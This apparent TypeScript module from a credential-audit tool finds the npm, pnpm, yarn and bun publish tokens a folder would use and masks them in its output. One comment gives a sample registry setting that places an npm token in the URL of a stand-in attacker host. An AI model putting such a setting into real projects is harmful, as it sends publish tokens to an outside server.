// SPDX-License-Identifier: Apache-2.0
import { realpath } from 'node:fs/promises'
import { userInfo } from 'node:os'
import { dirname, resolve } from 'node:path'
import { BonafideError } from '@bonafide/core'
import type { Place } from '@bonafide/core'
import { findNpm, loadNpmChain } from '@bonafide/registry'
import type { NpmChain } from '@bonafide/registry'
import type { Credential, CredentialSource, FoundCredentials, PublishClient } from '../credential.ts'
import { viewBun } from './bun-view.ts'
import { viewNpm } from './npm-view.ts'
import { viewPnpm } from './pnpm-view.ts'
import { readPublishManifest } from './publish-manifest.ts'
import type { ClientView, Reading } from './setting.ts'
import { findInVariables } from './variables.ts'
import { viewYarnClassic } from './yarn-classic-view.ts'
import { viewYarn } from './yarn-view.ts'

/**
 * Finds every credential that a publish from a folder could use, where it stands, which registry it goes to, and which client would send it.
 * Nothing is sent, run or judged: a helper program is named, not asked.
 *
 * @throws BonafideError `BONAFIDE_NPM_CONFIG`, `BONAFIDE_CREDENTIALS_UNREADABLE`, `BONAFIDE_CREDENTIALS_MALFORMED`: a file that cannot be
 * read or understood is never taken for one without credentials
 */
export async function findCredentials(source: CredentialSource): Promise<FoundCredentials> {
  const home = source.env['HOME'] || userInfo().homedir
  const env: CredentialSource['env'] = { ...source.env, HOME: home }
  // A client sees the folder behind a link, and looks upwards from there.
  const cwd = await physical(source.cwd)
  const own: CredentialSource = { ...source, cwd, env }
  const manifest = await readPublishManifest(cwd, source.package ?? null)
  const chain = await chainOfNpm(own)
  const npm = await viewNpm(own, chain, manifest)
  const rootHome = userInfo().uid === 0 ? '/usr/local/share' : null
  const found = await findNpm(env['PATH'], process.platform)
  const prefix = found === null ? null : dirname(dirname(found.execPath))
  const views = [
    npm,
    await viewPnpm(own, home, manifest),
    await viewYarn(own, home, manifest),
    await viewYarnClassic(own, { home, rootHome, prefix }, manifest),
    await viewBun(own, { home, root: (await loadNpmChain(own)).prefix }, manifest),
  ]
  const read = mergeReadings(views)
  const known = new Set(read.flatMap(({ place }) => (place.kind === 'variable' ? [place.name] : [])))
  const credentials = [...read, ...findInVariables(source.env, known)]
  const hide = hiding(credentials)
  const registries = Object.fromEntries(
    views.map(({ client, registry }) => [client, registry === null ? null : hide(registry)]),
  ) as Record<PublishClient, string | null>
  return {
    package: manifest.name,
    registry: registries.npm ?? '',
    registries,
    credentials: credentials.map((one) => ({
      ...one,
      key: hide(one.key),
      registry: one.registry === null ? null : hide(one.registry),
    })),
  }
}

/** One credential for what several clients read in the same place, as long as they read the same. */
function mergeReadings(views: readonly ClientView[]): readonly Credential[] {
  const merged = new Map<string, Reading[]>()
  for (const reading of views.flatMap(({ readings }) => readings)) {
    const id = JSON.stringify([placeId(reading.place), reading.key, reading.form, reading.secret?.reveal() ?? null])
    merged.set(id, [...(merged.get(id) ?? []), reading])
  }
  return [...merged.values()].flatMap((readings) => {
    const [first] = readings
    if (first === undefined) return []
    const senders = readings.filter(({ isSent }) => isSent)
    const { form, layer, place, key, registry, secret, unexpanded } = senders[0] ?? first
    return [
      {
        form,
        layer,
        place,
        key,
        registry,
        secret,
        unexpanded,
        readers: [...new Set(readings.map(({ client }) => client))],
        sentBy: [...new Set(senders.map(({ client }) => client))],
      },
    ]
  })
}

function placeId(place: Place): string {
  switch (place.kind) {
    case 'file':
      return `${place.path}:${place.line ?? ''}`
    case 'variable':
    case 'option':
      return `${place.kind} ${place.name}`
    case 'url':
      return place.url
    case 'commit':
      return `${place.commit} ${place.path ?? ''}`
    default:
      throw new TypeError(`no such place: ${String(place satisfies never)}`)
  }
}

// `npm publish --prefix=DIR` and `--no-workspaces` read the settings of another project than the folder's. npm hands neither of them to a
// script, and does tell it which project it took.
async function chainOfNpm(own: CredentialSource): Promise<NpmChain> {
  const { env, argv = [] } = own
  const source = { ...own, cwd: await startOfNpm(own.cwd, env) }
  const chain = await loadNpmChain(source)
  const project = env['npm_lifecycle_event'] === undefined ? undefined : env['npm_config_local_prefix']
  if (project === undefined || project === '' || resolve(project) === chain.prefix) return chain
  // The option moves npm's global file as well, which stays where it was.
  const global = chain.layers.find(({ name }) => name === 'global')?.source ?? ''
  return loadNpmChain({ ...source, argv: [...argv, `--prefix=${project}`, `--globalconfig=${global}`] })
}

/** Within a script of npm's, the folder in which npm was started: `npm publish dist` reads the configuration there, and not that of `dist`. */
async function startOfNpm(cwd: string, env: CredentialSource['env']): Promise<string> {
  const start = env['npm_lifecycle_event'] === undefined ? undefined : env['INIT_CWD']
  return start === undefined || start === '' ? cwd : physical(start)
}

async function physical(folder: string): Promise<string> {
  const path = resolve(folder)
  try {
    return await realpath(path)
  } catch (cause) {
    throw new BonafideError('BONAFIDE_CREDENTIALS_UNREADABLE', 'the folder to publish from cannot be read', {
      path,
      cause,
    })
  }
}

// A registry whose URL a project's file makes of a token, `registry=https://evil.example/${NPM_TOKEN}/`, and keys with a login in them.
function hiding(credentials: readonly Credential[]): (text: string) => string {
  const secrets = credentials.flatMap(({ secret }) => secret?.reveal() ?? []).filter((text) => text.length >= 8)
  return (text) =>
    secrets.reduce((rest, secret) => rest.replaceAll(secret, '…'), text).replaceAll(/\/\/[^/@]*@/gu, '//…@')
}
